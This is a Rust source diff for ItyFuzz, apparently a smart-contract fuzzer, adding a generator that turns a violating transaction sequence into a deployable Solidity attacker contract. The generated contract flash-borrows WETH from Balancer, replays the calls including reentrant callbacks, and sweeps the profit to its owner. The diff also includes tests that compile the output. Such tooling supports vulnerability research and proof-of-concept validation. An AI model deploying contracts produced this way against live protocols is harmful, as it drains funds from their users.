@@ -0,0 +1,417 @@
+/// Generates a standalone attacker contract performing a violating sequence atomically
+///
+/// Transactions of the first caller of the sequence are sent from the attacker contract, those
+/// of each other caller from an actor contract it deploys. ETH needed by the sequence is flash
+/// borrowed (as WETH) from Balancer and repaid at the end, and the profit of the attacker and
+/// actors is swept to the deployer. Reentrant transactions (executed by ItyFuzz after a control
+/// leak) are performed in the fallback of the attacker contract.
+use crate::evm::input::ConciseEVMInput;
+#[cfg(feature = "flashloan_v2")]
+use crate::evm::input::EVMInputTy;
+use crate::evm::known_addresses::ChainAddresses;
+use crate::evm::replay::parse_sequence;
+use crate::evm::types::{EVMAddress, EVMU256};
+use crate::input::ConciseSerde;
+use revm_primitives::keccak256;
+use std::collections::{BTreeSet, HashMap};
+
+/// Balancer vault, deployed at the same address on most chains
+const BALANCER_VAULT: &str = "0xBA12222222228d8Ba445958a75a0704d566BF2C8";
+
+const HEADER: &str = "// SPDX-License-Identifier: UNLICENSED
+// Generated by ItyFuzz from a violating sequence, review it before deploying.
+pragma solidity ^0.8.0;
+
+interface IERC20 {
+    function balanceOf(address) external view returns (uint256);
+    function transfer(address, uint256) external returns (bool);
+}
+
+interface IWETH {
+    function deposit() external payable;
+    function withdraw(uint256) external;
+}
+
+interface IBalancerVault {
+    function flashLoan(address recipient, address[] memory tokens, uint256[] memory amounts, bytes memory userData) external;
+}
+
+/// Sends the transactions of one of the callers of the sequence, reentrant calls are forwarded to
+/// the attacker contract
+contract Actor {
+    address immutable exploit;
+
+    constructor() {
+        exploit = msg.sender;
+    }
+
+    function execute(address target, uint256 value, bytes memory data) external payable {
+        require(msg.sender == exploit, \"not exploit\");
+        (bool success, bytes memory ret) = target.call{value: value}(data);
+        if (!success) {
+            assembly {
+                revert(add(ret, 32), mload(ret))
+            }
+        }
+    }
+
+    fallback(bytes calldata data) external payable returns (bytes memory) {
+        (bool success, bytes memory ret) = exploit.call{value: msg.value}(data);
+        require(success, \"reentrant call failed\");
+        return ret;
+    }
+
+    receive() external payable {}
+}
+";
+
+/// Statements executed in a callback of the attacker contract, returning `ret`
+#[derive(Default)]
+struct Callback {
+    lines: Vec<String>,
+    ret: Vec<u8>,
+}
+
+/// EIP-55 checksummed address, required by solc for address literals
+fn checksum(address: &EVMAddress) -> String {
+    let addr = hex::encode(address.0);
+    let hash = hex::encode(keccak256(addr.as_bytes()).0);
+    let checksummed = addr
+        .chars()
+        .zip(hash.chars())
+        .map(|(c, h)| if h >= '8' { c.to_ascii_uppercase() } else { c })
+        .collect::<String>();
+    format!("0x{}", checksummed)
+}
+
+/// Index of the actor sending the transactions of each caller, None for the attacker contract
+/// (the first caller)
+fn assign_actors(txs: &[ConciseEVMInput]) -> HashMap<EVMAddress, Option<usize>> {
+    let mut actors = HashMap::new();
+    for tx in txs.iter().filter(|tx| !tx.step && !tx.victim) {
+        let next = match actors.len() {
+            0 => None,
+            n => Some(n - 1),
+        };
+        actors.entry(tx.caller).or_insert(next);
+    }
+    actors
+}
+
+fn render_tx(idx: usize, tx: &ConciseEVMInput, actor: Option<usize>) -> Vec<String> {
+    let mut lines = vec![format!("// [{}] {}", idx, tx.serialize_string().trim_start_matches(['=', ' ']))];
+    #[cfg(feature = "flashloan_v2")]
+    if matches!(tx.input_type, EVMInputTy::Borrow) {
+        lines.push(format!(
+            "// TODO: acquire token {} with {} wei (e.g., swap on a DEX)",
+            checksum(&tx.contract),
+            tx.txn_value.unwrap_or_default()
+        ));
+        return lines;
+    }
+    if tx.victim {
+        lines.push("// TODO: victim transaction, it cannot be performed atomically (e.g., sandwich it in a bundle)".to_string());
+        return lines;
+    }
+    if tx.via_intermediary {
+        lines.push(format!(
+            "// TODO: tx.origin must be {}, i.e., the call is made while {} interacts with this contract",
+            checksum(&tx.caller),
+            checksum(&tx.caller)
+        ));
+    }
+    let data = tx.data.as_ref().map(|d| d.get_bytes()).unwrap_or_default();
+    let call = match actor {
+        None => format!(
+            "_call({}, {}, hex\"{}\");",
+            checksum(&tx.contract),
+            tx.txn_value.unwrap_or_default(),
+            hex::encode(data)
+        ),
+        Some(actor) => format!(
+            "actors[{}].execute{{value: {value}}}({}, {value}, hex\"{}\");",
+            actor,
+            checksum(&tx.contract),
+            hex::encode(data),
+            value = tx.txn_value.unwrap_or_default()
+        ),
+    };
+    if tx.repeat > 1 {
+        lines.push(format!("for (uint256 i = 0; i < {}; i++) {{", tx.repeat));
+        lines.push(format!("    {}", call));
+        lines.push("}".to_string());
+    } else {
+        lines.push(call);
+    }
+    lines
+}
+
+/// Split the sequence into statements executed in `attack()` and in each callback
+/// (in the order callbacks are invoked)
+fn split_callbacks(txs: &[ConciseEVMInput]) -> (Vec<String>, Vec<Callback>) {
+    let actors = assign_actors(txs);
+    let mut callbacks: Vec<Callback> = vec![];
+    // (callback index, statements), the first one is `attack()`
+    let mut stack: Vec<(usize, Callback)> = vec![(usize::MAX, Callback::default())];
+    fn finish(stack: &mut Vec<(usize, Callback)>, callbacks: &mut Vec<Callback>, ret: Vec<u8>) {
+        let (idx, mut callback) = stack.pop().unwrap();
+        callback.ret = ret;
+        callbacks[idx] = callback;
+    }
+
+    for (idx, tx) in txs.iter().enumerate() {
+        while stack.len() < tx.layer + 1 {
+            stack.push((callbacks.len(), Callback::default()));
+            callbacks.push(Callback::default());
+        }
+        while stack.len() > tx.layer + 1 {
+            finish(&mut stack, &mut callbacks, vec![]);
+        }
+        if tx.step && stack.len() > 1 {
+            // resume the execution by returning from the callback
+            let ret = tx.data.as_ref().map(|d| d.get_bytes_vec()).unwrap_or_default();
+            stack.last_mut().unwrap().1.lines.push(format!("// [{}] return to the caller", idx));
+            finish(&mut stack, &mut callbacks, ret);
+        } else {
+            let actor = actors.get(&tx.caller).cloned().flatten();
+            stack.last_mut().unwrap().1.lines.extend(render_tx(idx, tx, actor));
+        }
+    }
+    while stack.len() > 1 {
+        finish(&mut stack, &mut callbacks, vec![]);
+    }
+    (stack.pop().unwrap().1.lines, callbacks)
+}
+
+fn indent(lines: &[String], level: usize) -> String {
+    lines
+        .iter()
+        .map(|l| format!("{}{}\n", "    ".repeat(level), l))
+        .collect()
+}
+
+/// Generate the attacker contract from the transactions of a violating sequence, with the
+/// flashloan provider and WETH of `chain` taken from the known addresses
+pub fn generate_exploit_from_inputs(txs: &[ConciseEVMInput], chain: Option<&ChainAddresses>) -> String {
+    let borrow = txs
+        .iter()
+        .filter(|tx| !tx.step)
+        .fold(EVMU256::ZERO, |acc, tx| {
+            acc.saturating_add(tx.txn_value.unwrap_or_default().saturating_mul(EVMU256::from(tx.repeat.max(1))))
+        });
+    let tokens = txs
+        .iter()
+        .map(|tx| checksum(&tx.contract))
+        .collect::<BTreeSet<_>>()
+        .into_iter()
+        .collect::<Vec<_>>();
+    let (attack, callbacks) = split_callbacks(txs);
+    let actor_count = assign_actors(txs).values().filter(|actor| actor.is_some()).count();
+
+    let mut code = String::from(HEADER);
+    code.push_str("\ncontract Exploit {\n");
+    let vault = chain
+        .and_then(|addresses| addresses.flashloan_provider(Some("balancer")))
+        .map_or(BALANCER_VAULT.to_string(), |vault| checksum(&vault));
+    code.push_str(&format!("    address constant BALANCER_VAULT = {};\n", vault));
+    code.push_str("    address immutable owner;\n");
+    code.push_str("    address immutable weth;\n");
+    code.push_str("    uint256 stage;\n");
+    code.push_str("    Actor[] actors;\n\n");
+    if let Some(weth) = chain.and_then(|addresses| addresses.native_token()) {
+        code.push_str(&format!("    // _weth: {}\n", weth));
+    }
+    code.push_str("    constructor(address _weth) {\n        owner = msg.sender;\n        weth = _weth;\n");
+    code.push_str(&format!(
+        "        for (uint256 i = 0; i < {}; i++) {{\n            actors.push(new Actor());\n        }}\n",
+        actor_count
+    ));
+    code.push_str("    }\n\n");
+
+    code.push_str("    function exploit() external {\n        require(msg.sender == owner, \"not owner\");\n");
+    if borrow > EVMU256::ZERO {
+        code.push_str(&format!(
+            "        address[] memory tokens = new address[](1);\n        tokens[0] = weth;\n        \
+             uint256[] memory amounts = new uint256[](1);\n        amounts[0] = {};\n        \
+             IBalancerVault(BALANCER_VAULT).flashLoan(address(this), tokens, amounts, \"\");\n",
+            borrow
+        ));
+    } else {
+        code.push_str("        attack();\n");
+    }
+    code.push_str("        sweep();\n    }\n\n");
+
+    code.push_str(
+        "    function receiveFlashLoan(address[] memory, uint256[] memory amounts, uint256[] memory fees, bytes memory) external {
+        require(msg.sender == BALANCER_VAULT, \"not vault\");
+        IWETH(weth).withdraw(amounts[0]);
+        attack();
+        IWETH(weth).deposit{value: amounts[0] + fees[0]}();
+        IERC20(weth).transfer(BALANCER_VAULT, amounts[0] + fees[0]);
+    }\n\n",
+    );
+
+    code.push_str("    function attack() internal {\n");
+    code.push_str(&indent(&attack, 2));
+    code.push_str("    }\n\n");
+
+    code.push_str("    fallback(bytes calldata) external payable returns (bytes memory) {\n");
+    if !callbacks.is_empty() {
+        code.push_str("        uint256 current = stage++;\n");
+        for (idx, callback) in callbacks.iter().enumerate() {
+            code.push_str(&format!("        if (current == {}) {{\n", idx));
+            code.push_str(&indent(&callback.lines, 3));
+            code.push_str(&format!("            return hex\"{}\";\n        }}\n", hex::encode(&callback.ret)));
+        }
+    }
+    code.push_str("        return \"\";\n    }\n\n");
+    code.push_str("    receive() external payable {}\n\n");
+
+    code.push_str("    function sweep() internal {\n");
+    code.push_str(&format!("        address[] memory tokens = new address[]({});\n", tokens.len()));
+    for (idx, token) in tokens.iter().enumerate() {
+        code.push_str(&format!("        tokens[{}] = {};\n", idx, token));
+    }
+    code.push_str(
+        "        for (uint256 i = 0; i < tokens.length; i++) {
+            (bool success, bytes memory ret) = tokens[i].staticcall(abi.encodeWithSelector(IERC20.balanceOf.selector, address(this)));
+            if (success && ret.length == 32 && abi.decode(ret, (uint256)) > 0) {
+                (success, ) = tokens[i].call(abi.encodeWithSelector(IERC20.transfer.selector, owner, abi.decode(ret, (uint256))));
+            }
+            for (uint256 j = 0; j < actors.length; j++) {
+                (success, ret) = tokens[i].staticcall(abi.encodeWithSelector(IERC20.balanceOf.selector, address(actors[j])));
+                if (success && ret.length == 32 && abi.decode(ret, (uint256)) > 0) {
+                    try actors[j].execute(tokens[i], 0, abi.encodeWithSelector(IERC20.transfer.selector, owner, abi.decode(ret, (uint256)))) {} catch {}
+                }
+            }
+        }
+        for (uint256 j = 0; j < actors.length; j++) {
+            if (address(actors[j]).balance > 0) {
+                actors[j].execute(owner, address(actors[j]).balance, \"\");
+            }
+        }
+        payable(owner).transfer(address(this).balance);
+    }\n\n",
+    );
+
+    code.push_str(
+        "    function _call(address target, uint256 value, bytes memory data) internal {
+        (bool success, bytes memory ret) = target.call{value: value}(data);
+        if (!success) {
+            assembly {
+                revert(add(ret, 32), mload(ret))
+            }
+        }
+    }\n}\n",
+    );
+    code
+}
+
+/// Generate the attacker contract from a violating sequence (in the replayable format)
+pub fn generate_exploit(txs: &str, chain: Option<&ChainAddresses>) -> String {
+    let inputs = parse_sequence(txs);
+    generate_exploit_from_inputs(&inputs, chain)
+}
+
+mod tests {
+    use super::*;
+    use crate::evm::abi::{BoxedABI, A256};
+
+    #[test]
+    fn test_checksum() {
+        let address = EVMAddress::from_slice(&hex::decode("5aaeb6053f3e94c9b9a09f33669435e7ef1beaed").unwrap());
+        assert_eq!(checksum(&address), "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed");
+    }
+
+    #[test]
+    fn test_split_callbacks() {
+        let call = |layer: usize| ConciseEVMInput {
+            layer,
+            ..Default::default()
+        };
+        let step = ConciseEVMInput {
+            step: true,
+            layer: 1,
+            data: Some(BoxedABI::new(Box::new(A256 {
+                data: vec![1],
+                is_address: false,
+                dont_mutate: false,
+            }))),
+            ..Default::default()
+        };
+        // tx 0 leaks control, tx 1 reenters, tx 2 resumes tx 0, tx 3 is a normal call
+        let (attack, callbacks) = split_callbacks(&[call(0), call(1), step, call(0)]);
+        assert_eq!(callbacks.len(), 1);
+        assert_eq!(callbacks[0].ret, [vec![0; 31], vec![1]].concat());
+        assert!(callbacks[0].lines.iter().any(|l| l.starts_with("// [1]")));
+        assert!(attack.iter().any(|l| l.starts_with("// [0]")));
+        assert!(attack.iter().any(|l| l.starts_with("// [3]")));
+    }
+
+    fn call_from(caller: u8, contract: u8) -> ConciseEVMInput {
+        ConciseEVMInput {
+            caller: EVMAddress::from_slice(&[caller; 20]),
+            contract: EVMAddress::from_slice(&[contract; 20]),
+            ..Default::default()
+        }
+    }
+
+    #[test]
+    fn test_assign_actors() {
+        let actors = assign_actors(&[call_from(1, 9), call_from(2, 9), call_from(1, 9), call_from(3, 9)]);
+        assert_eq!(actors[&EVMAddress::from_slice(&[1; 20])], None);
+        assert_eq!(actors[&EVMAddress::from_slice(&[2; 20])], Some(0));
+        assert_eq!(actors[&EVMAddress::from_slice(&[3; 20])], Some(1));
+    }
+
+    #[test]
+    fn test_callers() {
+        let code = generate_exploit_from_inputs(&[call_from(1, 9), call_from(2, 9)], None);
+        assert!(code.contains("i < 1; i++) {\n            actors.push(new Actor());"));
+        assert!(code.contains("\n        _call(0x0909"));
+        assert!(code.contains("\n        actors[0].execute{value: 0}(0x0909"));
+    }
+
+    #[test]
+    fn test_empty_sequence() {
+        let code = generate_exploit_from_inputs(&[], None);
+        assert!(code.contains("address[] memory tokens = new address[](0);"));
+        assert!(!code.contains("address[0]"));
+    }
+
+    /// Compile the contract with solc, like the integration tests
+    fn compiles(code: &str, name: &str) -> bool {
+        let dir = std::env::temp_dir().join(format!("ityfuzz_exploit_{}_{}", name, std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let path = dir.join("Exploit.sol");
+        std::fs::write(&path, code).unwrap();
+        let out = std::process::Command::new("solc")
+            .arg("--bin")
+            .arg(&path)
+            .output()
+            .expect("failed to run solc");
+        if !out.status.success() {
+            println!("{}", String::from_utf8_lossy(&out.stderr));
+        }
+        out.status.success()
+    }
+
+    #[test]
+    fn test_compiles() {
+        assert!(compiles(&generate_exploit_from_inputs(&[], None), "empty"));
+
+        let step = ConciseEVMInput {
+            step: true,
+            layer: 1,
+            ..Default::default()
+        };
+        let reenter = ConciseEVMInput {
+            layer: 1,
+            ..call_from(1, 8)
+        };
+        let mut txs = vec![call_from(1, 9), reenter, step, call_from(2, 9)];
+        txs[0].txn_value = Some(EVMU256::from(1000));
+        txs[3].repeat = 3;
+        assert!(compiles(&generate_exploit_from_inputs(&txs, None), "sequence"));
+    }
+}